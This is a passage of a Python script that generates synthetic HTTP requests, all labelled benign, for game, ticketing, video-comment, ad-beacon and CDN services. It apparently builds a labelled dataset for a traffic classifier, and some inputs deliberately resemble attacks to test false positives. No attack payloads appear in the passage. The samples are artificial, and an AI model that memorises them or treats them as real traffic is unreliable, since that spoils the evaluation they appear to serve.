            out.append(mk("benign", "leaderboard", "GET", "/v1/leaderboards/%s?%s" % (b, qs(params)), game(rng, G_API)))
        elif kind == 1:
            params = [("filter", rng.choice(["friends", "country:DE", "country:BR,platform:pc", "clan:[404]", "score>=10000"])),
                      ("around_player", uuid4(rng)), ("range", str(rng.choice([5, 10])))]
            out.append(mk("benign", "leaderboard", "GET", "/v1/leaderboards/%s/entries?%s" % (b, qs(params)),
                          browser(rng, G_API, origin=G_WEB)))
        elif kind == 2:
            body = {"score": rng.randint(1000, 9999999), "metadata": {"car": rng.choice(["Nissan Skyline R34", "Mazda RX-7 (FD)", "'69 Charger"]),
                                                                     "time_ms": rng.randint(50000, 300000), "checkpoints": [rng.randint(1000, 60000) for _ in range(4)]},
                    "ghost": base64.b64encode(rbytes(rng, 96)).decode(), "run_id": uuid4(rng)}
            out.append(mk("benign", "leaderboard", "POST", "/v1/leaderboards/%s/scores" % b, game(rng, G_API, ctype="application/json"), jdump(body)))
        else:
            out.append(mk("benign", "leaderboard", "GET", "/v1/leaderboards/%s/players/%s?%s" % (b, pq(rng.choice(PLAYER_NAMES)), qs([("include", "rank,percentile")])),
                          browser(rng, G_API, origin=G_WEB)))
    return out


def b_player_profile():
    rng, out = R("player_profile"), []
    bios = [
        "Top 500 support main. Mercy or bust <3", "Don't @ me if you're gonna throw.", "PC | 144Hz | 800 DPI | 0.45 sens",
        "\u30b2\u30fc\u30e0\u5927\u597d\u304d\uff01 \u30d5\u30ec\u30f3\u30c9\u7533\u8acb\u6b53\u8fce \U0001f3ae", "ex-pro (lol jk). Casual dad gamer, 2 kids, 1 hr/night",
        "GGs only :) | EU | she/her", "\"Skill issue\" \u2014 my teammates, every game", "rank: Diamond 2 -> Plat 1 -> Diamond 1 (pain)",
        "Streaming Tue/Thu @ 20:00 CET \u2192 streamhaven.live/shadowfox", "",
    ]
    for i in range(15):
        name = PLAYER_NAMES[i % len(PLAYER_NAMES)]
        kind = i % 3
        if kind == 0:
            body = {"display_name": name, "clan_tag": rng.choice(CLAN_TAGS), "bio": rng.choice(bios),
                    "banner": "banner_%03d" % rng.randint(1, 250), "pronouns": rng.choice(["", "he/him", "she/her", "they/them"]),
                    "privacy": {"show_online": rng.random() < 0.5, "allow_invites": "friends"}}
            out.append(mk("benign", "player_profile", "PATCH", "/v1/players/me/profile", game(rng, G_API, ctype="application/json"), jdump(body)))
        elif kind == 1:
            out.append(mk("benign", "player_profile", "GET", "/v1/players/by-name/%s?%s" % (pq(name), qs([("platform", rng.choice(["steam", "psn", "xbl"]))])),
                          browser(rng, G_API, origin=G_WEB)))
        else:
            h = browser(rng, G_API, origin=G_WEB) + [["Content-Type", "application/x-www-form-urlencoded"], ["X-CSRF-Token", b62(rng, 32)]]
            out.append(mk("benign", "player_profile", "POST", "/account/profile", h,
                          form([("display_name", name), ("clan_tag", rng.choice(CLAN_TAGS)), ("bio", rng.choice(bios)), ("country", rng.choice(["DE", "BR", "US", "JP", "PL"]))])))
    return out


ITEMS = ["wpn_ak47_redline", "skin_knight_gold", "emote_floss", "spray_gg_ez", "glider_umbrella_rainbow", "chr_jett_s4",
         "tool_pickaxe_neon", "banner_season7", "wrap_carbon_fibre", "pet_corgi"]


def b_inventory():
    rng, out = R("inventory"), []
    for i in range(12):
        kind = i % 4
        if kind == 0:
            out.append(mk("benign", "inventory", "GET", "/v1/players/%s/inventory?%s" % (uuid4(rng), qs([
                ("category", rng.choice(["skins", "emotes", "weapons", "all"])), ("page", str(rng.randint(1, 6))), ("rarity", rng.choice(["legendary", "epic", "rare,epic"]))])),
                game(rng, G_API)))
        elif kind == 1:
            out.append(mk("benign", "inventory", "POST", "/v1/inventory/equip", game(rng, G_API, ctype="application/json"),
                          jdump({"loadout": rng.randint(1, 5), "slot": rng.choice(["primary", "secondary", "emote_1", "back"]), "item_id": rng.choice(ITEMS)})))
        elif kind == 2:
            out.append(mk("benign", "inventory", "POST", "/v1/store/purchase", game(rng, G_API, ctype="application/json"),
                          jdump({"offer_id": "offer_" + hexid(rng, 8), "currency": rng.choice(["GEMS", "GOLD", "USD"]), "expected_price": rng.choice([500, 950, 1200, 2800]),
                                 "quantity": 1, "idempotency_key": uuid4(rng), "gift_to": rng.choice([None, rng.choice(PLAYER_NAMES)])})))
        else:
            out.append(mk("benign", "inventory", "POST", "/v1/trades", game(rng, G_API, ctype="application/json"),
                          jdump({"partner": uuid4(rng), "give": [{"item_id": rng.choice(ITEMS), "instance": hexid(rng, 12)}],
                                 "receive": [{"item_id": rng.choice(ITEMS), "instance": hexid(rng, 12)}], "message": rng.choice(["1:1? :)", "ty <3", "final offer!!", ""])})))
    return out


GPUS = ["NVIDIA GeForce RTX 3070", "NVIDIA GeForce RTX 4090", "AMD Radeon RX 7800 XT", "Intel(R) Arc(TM) A770 Graphics", "AMD Custom GPU 0405 (Steam Deck)"]
CPUS = ["AMD Ryzen 7 5800X3D 8-Core Processor", "Intel(R) Core(TM) i7-12700K", "13th Gen Intel(R) Core(TM) i5-13600KF", "AMD Custom APU 0405"]


def telemetry_batch(rng):
    evs = []
    for _ in range(rng.randint(2, 6)):
        t = rng.choice(["session_start", "match_end", "frame_stats", "shop_view", "tutorial_step", "settings_changed", "crash_recovered"])
        props = {"session": uuid4(rng), "ts": 1714000000000 + rng.randint(0, 10**9)}
        if t == "frame_stats":
            props.update({"fps_avg": round(rng.uniform(40, 240), 1), "fps_p1": round(rng.uniform(20, 90), 1), "gpu": rng.choice(GPUS),
                          "driver": rng.choice(["551.86", "24.3.1", "31.0.101.5382"]), "cpu": rng.choice(CPUS), "res": rng.choice(["1920x1080", "2560x1440", "1280x800"])})
        elif t == "match_end":
            props.update({"map": rng.choice(["de_dust2", "ascent", "Erangel", "2fort"]), "kills": rng.randint(0, 40), "deaths": rng.randint(0, 30), "result": rng.choice(["win", "loss", "draw"])})
        elif t == "settings_changed":
            props.update({"key": rng.choice(["gfx.quality", "audio.master", "input.sensitivity"]), "old": "High", "new": "Ultra"})
        elif t == "tutorial_step":
            props.update({"step": rng.randint(1, 12), "name": rng.choice(["Press [E] to interact", "Hold <Shift> to sprint", "Use WASD to move"])})
        evs.append({"event": t, "props": props})
    return {"app_id": "shatterpoint", "build": "1.4.%d" % rng.randint(0, 30), "platform": rng.choice(["Win64", "PS5", "XSX", "Linux"]),
            "device_id": hexid(rng, 32), "events": evs}


def b_telemetry():
    rng, out = R("telemetry"), []
    for i in range(14):
        kind = i % 4
        batch = telemetry_batch(rng)
        if kind in (0, 1):
            out.append(mk("benign", "telemetry", "POST", "/v1/events/batch", game(rng, G_TELE, ctype="application/json", auth=False,
                                                                                    extra=[["X-Api-Key", b62(rng, 32)]]), jdump(batch)))
        elif kind == 2:
            data = gzip.compress(jdump(batch).encode(), mtime=0)
            h = game(rng, G_TELE, ctype="application/json", auth=False, extra=[["Content-Encoding", "gzip"], ["X-Api-Key", b62(rng, 32)]])
            out.append(mkraw("benign", "telemetry", "POST", "/v1/events/batch?compressed=1", h, data))
        else:
            data = b"".join(pb_field(1, pb_field(1, e["event"]) + pb_field(2, e["props"]["ts"]) + pb_field(3, jdump(e["props"]))) for e in batch["events"])
            h = game(rng, G_TELE, ctype="application/x-protobuf", auth=False, extra=[["X-Api-Key", b62(rng, 32)]])
            out.append(mkraw("benign", "telemetry", "POST", "/v2/ingest", h, data))
    return out


def b_anticheat():
    rng, out = R("anticheat"), []
    for i in range(9):
        if i % 3 == 2:
            data = b"ACHB" + struct.pack("<IIQ", 3, rng.randint(0, 10**6), rng.getrandbits(64)) + rbytes(rng, 200)
            h = game(rng, G_API, ctype="application/octet-stream", extra=[["X-AC-Session", hexid(rng, 32)]])
            out.append(mkraw("benign", "anticheat_report", "POST", "/v1/anticheat/heartbeat", h, data))
            continue
        body = {"reporter": uuid4(rng), "suspect": uuid4(rng), "match_id": uuid4(rng),
                "reason": rng.choice(["aimbot", "wallhack", "speedhack", "griefing", "toxic_chat"]),
                "comment": rng.choice(["he pre-fired every corner lol", "100% walls, watch round 7 at 1:23", "flying in spawn?!", "said \"uninstall\" 40 times"]),
                "demo_tick": rng.randint(1000, 400000),
                "evidence": base64.b64encode(rbytes(rng, rng.randint(150, 400))).decode(),
                "client": {"hash": hashlib.sha256(rbytes(rng, 8)).hexdigest(),
                           "modules": [{"name": n, "sha1": hexid(rng, 40)} for n in rng.sample(["d3d11.dll", "dxgi.dll", "GameOverlayRenderer64.dll", "nvwgf2umx.dll", "discord_hook64.dll"], 3)]},
                "sig": b64url(rbytes(rng, 64))}
        out.append(mk("benign", "anticheat_report", "POST", "/v1/anticheat/report", game(rng, G_API, ctype="application/json"), jdump(body)))
    return out


PNG_1PX = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")


def b_mod_upload():
    rng, out = R("mod_upload"), []
    mods = [("BetterHUD", "A cleaner HUD. Works with 1.4.x. Don't use with \"UI Overhaul\" (conflicts)."),
            ("MoreBackpacks", "Adds 3 backpacks & a <b>huge</b> duffel bag."),
            ("NightSkyReplacer", "Replaces the night sky with 8K textures \u2014 VRAM heavy!"),
            ("QoL_Tweaks", "Stack sizes x2, faster crafting, auto-sort (Ctrl+R)."),
            ("Ferrari_F40_addon", "Car pack: '87 F40, LM & GTE variants."),
            ("TranslationPT_BR", "Tradu\u00e7\u00e3o completa para PT-BR. Vers\u00e3o 2.1")]
    for i in range(9):
        name, desc = mods[i % len(mods)]
        entries = [("%s/mod.json" % name, jdump({"id": name.lower(), "version": "1.%d.%d" % (rng.randint(0, 9), rng.randint(0, 20)), "game": ">=1.4.0", "authors": [rng.choice(PLAYER_NAMES)]})),
                   ("%s/scripts/main.lua" % name, "local M = {}\nfunction M.init(api)\n  api.log(\"%s loaded\")\nend\nreturn M\n" % name),
                   ("%s/textures/icon.png" % name, PNG_1PX),
                   ("%s/README.md" % name, "# %s\n\n%s\n" % (name, desc))]
        z = make_zip(entries)
        ct, body = multipart(rng, [("title", None, None, name.replace("_", " ")), ("version", None, None, "1.%d" % rng.randint(0, 9)),
                                   ("description", None, None, desc), ("game_version", None, None, "1.4.2"),
                                   ("tags", None, None, rng.choice(["ui,qol", "vehicles", "graphics,textures", "translation"])),
                                   ("file", "%s-%d.zip" % (name, rng.randint(100, 999)), "application/zip", z)])
        h = browser(rng, G_MODS, accept="application/json", origin="https://" + G_MODS) + [["Content-Type", ct], ["X-CSRF-Token", b62(rng, 32)]]
        out.append(mkraw("benign", "mod_upload", "POST", "/api/v1/games/shatterpoint/mods", h, body))
    return out


def b_savegame():
    rng, out = R("savegame"), []
    for i in range(12):
        kind = i % 3
        slot = rng.randint(1, 5)
        if kind == 0:
            data = b"SPSV" + struct.pack("<HHI", 7, slot, rng.randint(1000, 10**6)) + zlib_like(rng, 400)
            h = game(rng, G_SAVE, ctype="application/octet-stream",
                     extra=[["If-Match", "\"%s\"" % hexid(rng, 16)], ["X-Save-Checksum", "crc32=%08x" % rng.getrandbits(32)]])
            out.append(mkraw("benign", "savegame_sync", "PUT", "/v1/saves/%s/slots/%d" % (uuid4(rng), slot), h, data))
        elif kind == 1:
            h = game(rng, G_SAVE, extra=[["If-None-Match", "\"%s\"" % hexid(rng, 16)]])
            out.append(mk("benign", "savegame_sync", "GET", "/v1/saves/%s/slots/%d?meta=1" % (uuid4(rng), slot), h))
        else:
            body = {"slot": slot, "playtime_s": rng.randint(100, 900000), "chapter": rng.choice(["Ch.3 \u2014 \"The Long Night\"", "Prologue", "Act II: Rock & Stone"]),
                    "thumbnail": base64.b64encode(PNG_1PX).decode(), "data": base64.b64encode(rbytes(rng, 300)).decode(),
                    "device": rng.choice(["Steam Deck", "PS5", "Desktop-7F3K"]), "conflict_policy": "keep_newest"}
            out.append(mk("benign", "savegame_sync", "POST", "/v1/saves/sync", game(rng, G_SAVE, ctype="application/json"), jdump(body)))
    return out


def zlib_like(rng, n):
    import zlib
    text = "".join(rng.choice(["quest_", "flag_", "npc_", "inv:", "pos=", "hp=", "1", "0", ";"]) for _ in range(n))
    return zlib.compress(text.encode(), 6)


def b_crash_report():
    rng, out = R("crash_report"), []
    for i in range(7):
        if i % 2 == 0:
            trace = ("NullReferenceException: Object reference not set to an instance of an object\n"
                     "  at PlayerController.Update () [0x00012] in <%s>:0\n"
                     "  at UnityEngine.Events.InvokableCall.Invoke () [0x00010] in <%s>:0\n"
                     "  at InventoryUI.OnSlotClicked (System.Int32 index) [0x0003a] in <%s>:0\n" % (hexid(rng, 32), hexid(rng, 32), hexid(rng, 32)))
            body = {"projectId": uuid4(rng), "appVersion": "2.%d.%d" % (rng.randint(0, 9), rng.randint(0, 99)), "platform": rng.choice(["WindowsPlayer", "Android", "IPhonePlayer"]),
                    "message": trace.split("\n")[0], "stackTrace": trace, "logs": "[12:01:33] Loading scene 'Level_03'...\n[12:01:35] <color=yellow>Warning:</color> shader 'Hidden/Blit' not found",
                    "device": {"model": rng.choice(["Samsung SM-S918B", "iPhone15,3", "To Be Filled By O.E.M."]), "gpu": rng.choice(GPUS), "ram_mb": rng.choice([8192, 16384, 32768])}}
            out.append(mk("benign", "crash_report", "POST", "/api/crash/v1/reports", game(rng, G_TELE, engine="unity", ctype="application/json", auth=False), jdump(body)))
        else:
            import zlib
            xml = ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><FGenericCrashContext><RuntimeProperties><CrashVersion>3</CrashVersion>"
                   "<ErrorMessage>Assertion failed: IsValid() [File:D:\\build\\++UE5\\Sync\\Engine\\Source\\Runtime\\Core\\Public\\Templates\\SharedPointer.h] [Line: 1076]</ErrorMessage>"
                   "<CrashGUID>UECC-Windows-%s_0000</CrashGUID><GameName>UE-ShatterPoint</GameName></RuntimeProperties></FGenericCrashContext>" % hexid(rng, 32).upper())
            data = b"CR1\x00" + struct.pack("<I", len(xml)) + zlib.compress(xml.encode() + rbytes(rng, 120))
            h = [["Host", G_TELE], ["User-Agent", "CrashReportClient/++UE5+Release-5.3-CL-29314046 Windows/10.0.22631.1.256.64bit"],
                 ["Content-Type", "application/octet-stream"], ["Accept", "*/*"]]
            out.append(mkraw("benign", "crash_report", "POST", "/api/receiver/crashes?%s" % qs([("AppID", "CrashReporter"), ("AppVersion", "5.3.2-29314046+++UE5+Release-5.3"),
                                                                                                ("AppEnvironment", "Release"), ("UploadType", "crashreports"), ("UserID", hexid(rng, 32) + "|" + hexid(rng, 32) + "|")]), h, data))
    return out


def b_social():
    rng, out = R("social"), []
    for i in range(12):
        kind = i % 4
        if kind == 0:
            out.append(mk("benign", "friends_party", "POST", "/v1/friends/requests", game(rng, G_API, ctype="application/json"),
                          jdump({"target": "%s#%04d" % (rng.choice(PLAYER_NAMES), rng.randint(1, 9999)), "message": rng.choice(["gg from last game!", "you carried <3", "duo? :)"])})))
        elif kind == 1:
            out.append(mk("benign", "friends_party", "PUT", "/v1/presence/me", game(rng, G_API, ctype="application/json"),
                          jdump({"status": rng.choice(["In Match \u2014 Ranked (3-2)", "In Lobby", "AFK >_<", "Spectating [404]Kev"]),
                                 "rich_presence": {"details": rng.choice(["Playing as Jett", "Hunting: Rathalos", "Building a base"]), "state": "Ascent, %d-%d" % (rng.randint(0, 12), rng.randint(0, 12)),
                                                   "party_size": [rng.randint(1, 4), 5]}})))
        elif kind == 2:
            out.append(mk("benign", "friends_party", "POST", "/v1/parties/%s/invites" % uuid4(rng), game(rng, G_API, ctype="application/json"),
                          jdump({"player_ids": [uuid4(rng) for _ in range(rng.randint(1, 3))], "expires_in": 300})))
        else:
            out.append(mk("benign", "friends_party", "POST", "/v1/voice/token", game(rng, G_API, ctype="application/json"),
                          jdump({"channel": "party_%s" % hexid(rng, 10), "mode": rng.choice(["proximity", "team", "party"]), "codec": "opus"})))
    return out


def b_server_browser():
    rng, out = R("server_browser"), []
    for i in range(9):
        if i % 3 == 0:
            flt = "\\appid\\440\\dedicated\\1\\secure\\1\\gamedir\\tf\\map\\%s\\empty\\1" % rng.choice(["ctf_2fort", "pl_upward", "koth_harvest_final"])
            out.append(mk("benign", "server_browser", "GET", "/IGameServersService/GetServerList/v1/?%s" % qs([("key", hexid(rng, 32).upper()), ("filter", flt), ("limit", "500")]),
                          [["Host", G_API], ["User-Agent", "Valve/Steam HTTP Client 1.0 (440)"], ["Accept", "text/html,*/*;q=0.9"], ["Accept-Encoding", "gzip,identity,*;q=0"]]))
        elif i % 3 == 1:
            out.append(mk("benign", "server_browser", "GET", "/v1/servers?%s" % qs([("region", rng.choice(["eu", "na", "sa", "asia"])), ("mode", rng.choice(["ctf", "tdm", "survival"])),
                                                                                   ("not_full", "1"), ("tags", rng.choice(["vanilla,no-bots", "modded,pvp", "hardcore"])),
                                                                                   ("name", rng.choice(["[EU] Rusty's #1 | 2x | Weekly wipe", "<<FUN>> 24/7 Dust2", "Noob-friendly (no rules)"]))]),
                          game(rng, G_API)))
        else:
            out.append(mk("benign", "server_browser", "POST", "/v1/servers/register", game(rng, G_API, ctype="application/json", extra=[["X-Server-Token", b62(rng, 40)]]),
                          jdump({"name": rng.choice(["[EU] Rusty's #1 | 2x | Weekly wipe", "\u2605 PvE Chill \u2605 | Discord: /ironchill", "== Hardcore Only =="]),
                                 "port": rng.choice([27015, 7777, 25565]), "max_players": rng.choice([32, 64, 100]), "map": "Erangel", "mods": ["BetterHUD@1.2.0"]})))
    return out


def b_patch_manifest():
    rng, out = R("patch_manifest"), []
    for i in range(10):
        kind = i % 3
        if kind == 0:
            uri = "/patches/%s/%s+cl.%d/manifest.json" % (rng.choice(["win64", "linux", "macos-arm64"]), rng.choice(["1.4.2", "1.4.3-hotfix1", "1.5.0-beta.3"]), rng.randint(180000, 190000))
            h = [["Host", "cdn.ironforge-games.com"], ["User-Agent", "IronforgeLauncher/3.8.1 (Windows NT 10.0; Win64)"], ["Accept", "application/json"],
                 ["If-Modified-Since", "Fri, 12 Apr 2024 0%d:00:00 GMT" % rng.randint(0, 9)]]
        elif kind == 1:
            cid = hexid(rng, 32).upper()
            uri = "/Builds/Org/o-%s/ChunksV4/%02d/%s_%s.chunk" % (b62(rng, 8).lower(), rng.randint(0, 99), hexid(rng, 16).upper(), cid)
            h = [["Host", "download.ironforge-games.com"], ["User-Agent", "IronforgeLauncher/3.8.1 (Windows NT 10.0; Win64)"], ["Accept", "*/*"]]
        else:
            sha = hexid(rng, 40)
            uri = "/depot/%d/chunk/%s" % (rng.randint(100000, 999999), sha)
            s = rng.randint(0, 100) * 1048576
            h = [["Host", "cache-fra.ironforge-games.com"], ["User-Agent", "Valve/Steam HTTP Client 1.0"], ["Accept", "text/html,*/*;q=0.9"],
                 ["Range", "bytes=%d-%d" % (s, s + 1048575)]]
        out.append(mk("benign", "patch_manifest", "GET", uri, h))
    return out


def b_ugc_level():
    rng, out = R("ugc_level"), []
    names = ["Ultimate Parkour 3 (HARD)", "1-1 but it's upside down", "Don't touch the lava!!!", "<<< go left >>>",
             "Speedrun Practice: 4-2 skip", "Kaizo #7 \u2014 \"no checkpoints\""]
    for i in range(6):
        body = {"name": names[i], "description": rng.choice(["good luck ;)", "clear rate 0.8% :D", "made in 12 hours, feedback welcome!"]),
                "tags": rng.sample(["kaizo", "puzzle", "speedrun", "music", "troll", "auto"], 2),
                "level_code": "%s-%s-%s" % (b62(rng, 3).upper(), b62(rng, 3).upper(), b62(rng, 3).upper()),
                "data": base64.b64encode(zlib_like(rng, 200)).decode(), "clear_check_ms": rng.randint(20000, 900000)}
        out.append(mk("benign", "ugc_level", "POST", "/v1/levels", game(rng, G_API, ctype="application/json"), jdump(body)))
    return out


# --------------------------------------------------------------------------
# benign: ticketing, comments, ads, CDN, images, OAuth
# --------------------------------------------------------------------------

EVENTS = ["AC/DC \u2014 Power Up Tour", "Guns N' Roses", "Cirque du Soleil: \"Kooza\"", "Hamilton (Touring)", "Rammstein",
          "Blink-182 / Pierce The Veil", "!!! (Chk Chk Chk) + support", "Taylor Swift | The Eras Tour", "Les Mis\u00e9rables",
          "NBA: Lakers @ Celtics", "The Who \u2013 Hits Back!", "Bj\u00f6rk: Cornucopia"]


def b_ticketing():
    rng, out = R("ticketing"), []
    for i in range(15):
        ev = "%d" % rng.randint(10**6, 10**7)
        kind = i % 5
        if kind == 0:
            out.append(mk("benign", "ticketing", "GET", "/v2/events/%s/seatmap?%s" % (ev, qs([("section", rng.choice(["101", "FLOOR-A", "BALC-L", "GA"])),
                                                                                              ("price_level", str(rng.randint(1, 6))), ("include", "holds,accessibility")])),
                          browser(rng, TIX_API, origin=TIX_WEB)))
        elif kind == 1:
            seats = ["SEC%d-ROW-%s-%d" % (rng.randint(101, 330), rng.choice("ABCDEFGHJK"), rng.randint(1, 30)) for _ in range(rng.randint(1, 4))]
            qt = "e_%s~q_%s~ts_%d~ce_true~rt_queue~h_%s" % ("erastour24lis", uuid4(rng), 1714000000 + rng.randint(0, 99999), hexid(rng, 64))
            out.append(mk("benign", "ticketing", "POST", "/v2/events/%s/holds" % ev, browser(rng, TIX_API, origin=TIX_WEB) + [["Content-Type", "application/json"], ["X-Queue-Token", qt]],
                          jdump({"seats": seats, "ticket_type": rng.choice(["adult", "child", "concession"]), "accessible": rng.random() < 0.2})))
        elif kind == 2:
            out.append(mk("benign", "ticketing", "GET", "/v2/events?%s" % qs([("q", EVENTS[i % len(EVENTS)]), ("city", rng.choice(["Lisbon", "M\u00fcnchen", "S\u00e3o Paulo", "London"])),
                                                                               ("date_from", "2024-0%d-01" % rng.randint(5, 9)), ("sort", rng.choice(["date,asc", "relevance", "price,desc"]))]),
                          browser(rng, TIX_API, origin=TIX_WEB)))
        elif kind == 3:
            target = "%s/event/%s" % (TIX_WEB, ev)
            out.append(mk("benign", "ticketing", "GET", "/?%s" % qs([("c", "seatrush"), ("e", "erastour24lis"), ("t", target), ("cid", "en-US"), ("l", "Eras Tour Layout")]),
                          browser(rng, TIX_QUEUE, accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")))
        else:
            qt = "e_%s~q_%s~ts_%d~ce_true~rt_safetynet~h_%s" % ("erastour24lis", uuid4(rng), 1714000000 + rng.randint(0, 99999), hexid(rng, 64))
            out.append(mk("benign", "ticketing", "GET", "/event/%s?queueittoken=%s" % (ev, qt),
                          browser(rng, "www.seatrush.com", accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")))
    return out


COMMENTS = [
    "This is the best song ever!!! 10/10", "Who's here in 2024? \U0001f64b", "2:34 -> goosebumps every time", "<3 <3 <3",
    "\u3053\u306e\u66f2\u3001\u672c\u5f53\u306b\u6700\u9ad8\u3067\u3059\u3002\u6cea\u304c\u51fa\u308b\u2026",
    "\uc774 \ub178\ub798 \ub4e4\uc744 \ub54c\ub9c8\ub2e4 \uc5b4\ub9b0 \uc2dc\uc808\uc774 \uc0dd\uac01\ub098\uc694 \U0001f97a",
    "\u0623\u062c\u0645\u0644 \u0623\u063a\u0646\u064a\u0629 \u0633\u0645\u0639\u062a\u0647\u0627 \u0647\u0630\u0627 \u0627\u0644\u0639\u0627\u0645 \u2764\ufe0f",
    "\u092f\u0939 \u0917\u093e\u0928\u093e \u0926\u093f\u0932 \u0915\u094b \u091b\u0942 \u0917\u092f\u093e \U0001f64f",
    "\u041a\u0442\u043e \u0441\u043b\u0443\u0448\u0430\u0435\u0442 \u0432 2024? \u041b\u0430\u0439\u043a \u0441\u044e\u0434\u0430 \U0001f447",
    "Algu\u00e9m do Brasil? \U0001f1e7\U0001f1f7\U0001f1e7\U0001f1f7", "Bu \u015fark\u0131 \u00e7ok g\u00fczel, te\u015fekk\u00fcrler!",
    "\u0e40\u0e1e\u0e25\u0e07\u0e19\u0e35\u0e49\u0e40\u0e1e\u0e23\u0e32\u0e30\u0e21\u0e32\u0e01 \u0e04\u0e34\u0e14\u0e16\u0e36\u0e07\u0e08\u0e31\u0e07",
    "\u8fd9\u9996\u6b4c\u771f\u7684\u592a\u597d\u542c\u4e86\uff0c\u5355\u66f2\u5faa\u73af\u4e00\u6574\u5929", "skip to 1:02:45 for the good part",
    "The part where he says \"I'm not crying, you're crying\" \u2014 I'm crying.", "Mom: \"turn it down\" / Me: *turns it up*",
    "Can someone tell me the name of the song at 4:20? (not the intro one)", "this > that other cover tbh",
    "Underrated. Criminally underrated. 5M views? Should be 500M.", "I've watched this 37 times & counting...",
    "Does anyone else hear the 'click' at 0:58? lol", "Wer ist auch wegen TikTok hier? \U0001f605",
    "Timestamps:\n0:00 Intro\n1:15 Verse 1\n2:40 Chorus\n3:55 Bridge (the best part)",
    "Lyrics: 'Don't let go / not now, not ever' \u2014 chills", ">tfw the drop hits at 2:22", "ok but why is nobody talking about the bassline",
]


def b_comments():
    rng, out = R("comments"), []
    for i, text in enumerate(COMMENTS):
        kind = i % 3
        if kind == 0:
            out.append(mk("benign", "comments", "POST", "/api/v2/videos/%s/comments" % asset_id(rng),
                          api(rng, VID_API, ctype="application/json", extra=[["Origin", VID_WEB]]),
                          jdump({"text": text, "parent_id": rng.choice([None, "c" + b62(rng, 14)]), "timestamp_link": rng.random() < 0.2})))
        elif kind == 1:
            out.append(mk("benign", "comments", "POST", "/comment/create", browser(rng, "www.vidora.tv", origin=VID_WEB) + [
                ["Content-Type", "application/x-www-form-urlencoded; charset=UTF-8"], ["X-CSRF-Token", b62(rng, 40)]],
                form([("video", asset_id(rng)), ("body", text), ("lang", rng.choice(["auto", "en", "ja", "pt"]))])))
        else:
            out.append(mk("benign", "comments", "POST", "/v1/tracks/%s/comments" % b62(rng, 22),
                          api(rng, MUS_API, ua=rng.choice(PODCAST_UAS[4:]), ctype="application/json; charset=utf-8"),
                          jdump({"body": text, "at_ms": rng.randint(0, 300000)}, ascii_only=rng.random() < 0.5)))
    return out


def b_reco_beacon():
    rng, out = R("reco_beacon"), []
    for i in range(15):
        kind = i % 5
        if kind == 0:
            # unresolved VAST macros: some players send them literally
            uri = "/vast/track?event=%s&ad=%s&cb=[CACHEBUSTING]&ts=[TIMESTAMP]&gdpr=${GDPR}&gdpr_consent=${GDPR_CONSENT_755}&us_privacy=%%%%US_PRIVACY%%%%" % (
                rng.choice(["start", "firstQuartile", "midpoint", "thirdQuartile", "complete"]), hexid(rng, 12))
            h = [["Host", ADS], ["User-Agent", rng.choice(PLAYER_UAS[4:7])], ["Accept", "*/*"]]
        elif kind == 1:
            uri = "/imp?%s" % qs([("e", "impression"), ("cid", str(rng.randint(10**5, 10**6))), ("crid", hexid(rng, 8)), ("pos", str(rng.randint(0, 20))),
                                  ("cb", str(rng.getrandbits(40))), ("ref", "%s/watch?v=%s" % (VID_WEB, asset_id(rng)))])
            h = [["Host", ADS], ["User-Agent", rng.choice(BROWSER_UAS)], ["Accept", "image/avif,image/webp,*/*"], ["Referer", VID_WEB + "/"]]
        elif kind == 2:
            body = {"events": [{"type": t, "video": asset_id(rng), "position_s": round(rng.uniform(0, 3600), 2), "rendition": rng.choice(RENDITIONS),
                                "stalls": rng.randint(0, 3)} for t in rng.sample(["play", "pause", "seek", "heartbeat", "quality_change", "end"], 3)],
                    "sid": uuid4(rng)}
            h = [["Host", "events.vidora.tv"], ["User-Agent", rng.choice(BROWSER_UAS)], ["Content-Type", "text/plain;charset=UTF-8"], ["Origin", VID_WEB], ["Accept", "*/*"]]
            out.append(mk("benign", "reco_beacon", "POST", "/v1/beacon", h, jdump(body)))
            continue
        elif kind == 3:
            body = {"item": asset_id(rng), "signal": rng.choice(["not_interested", "dont_recommend_channel", "liked", "watched_fully"]),
                    "reason": rng.choice(["Don't recommend channel", "I've already watched this", "Not my taste :/", ""]), "surface": "home_feed", "rank": rng.randint(0, 40)}
            out.append(mk("benign", "reco_beacon", "POST", "/v1/reco/feedback", api(rng, VID_API, ctype="application/json", extra=[["Origin", VID_WEB]]), jdump(body)))
            continue
        else:
            uri = "/pixel.gif?%s" % qs([("ev", "view"), ("u", "{{USER_ID}}" if rng.random() < 0.5 else hexid(rng, 16)), ("ord", "%%CACHEBUSTER%%"),
                                        ("pl", rng.choice(["roku", "tizen", "webos"])), ("ifa", uuid4(rng))])
            h = [["Host", ADS], ["User-Agent", rng.choice(PLAYER_UAS[4:7])], ["Accept", "*/*"]]
        out.append(mk("benign", "reco_beacon", "GET", uri, h))
    return out


def b_cdn_purge():
    rng, out = R("cdn_purge"), []
    for i in range(12):
        kind = i % 4
        svc = b62(rng, 22)
        h = [["Host", CDN_API], ["User-Agent", rng.choice(["curl/8.5.0", "python-requests/2.31.0", "terraform-provider-fastedge/4.2.0", "Go-http-client/1.1"])],
             ["Accept", "application/json"], ["Fastedge-Key", b62(rng, 32)]]
        if kind == 0:
            out.append(mk("benign", "cdn_purge", "POST", "/service/%s/purge" % svc, h + [["Content-Type", "application/json"]],
                          jdump({"urls": ["https://%s/vod/%s/master.m3u8" % (VID_CDN, asset_id(rng)), "https://%s/thumbs/%s/maxres.jpg" % (IMG, asset_id(rng))]})))
        elif kind == 1:
            out.append(mk("benign", "cdn_purge", "POST", "/service/%s/purge/%s" % (svc, rng.choice(["video-" + asset_id(rng), "channel-9123", "playlist-hot-100"])),
                          h + [["Fastly-Soft-Purge", "1"], ["Content-Length", "0"]]))
        elif kind == 2:
            out.append(mk("benign", "cdn_purge", "POST", "/zones/%s/purge_cache" % hexid(rng, 32), h + [["Content-Type", "application/json"]],
                          jdump({"prefixes": ["%s/hls/%s/" % (VID_CDN, asset_id(rng))], "tags": ["video-%s" % asset_id(rng)], "files": []})))
        else:
            a = asset_id(rng)
            out.append(mk("benign", "cdn_purge", "POST", "/v1/signed-urls", h + [["Content-Type", "application/json"]],
                          jdump({"path": "/vod/%s/master.m3u8" % a, "acl": "/vod/%s/*" % a, "expires_in": rng.choice([300, 3600, 21600]),
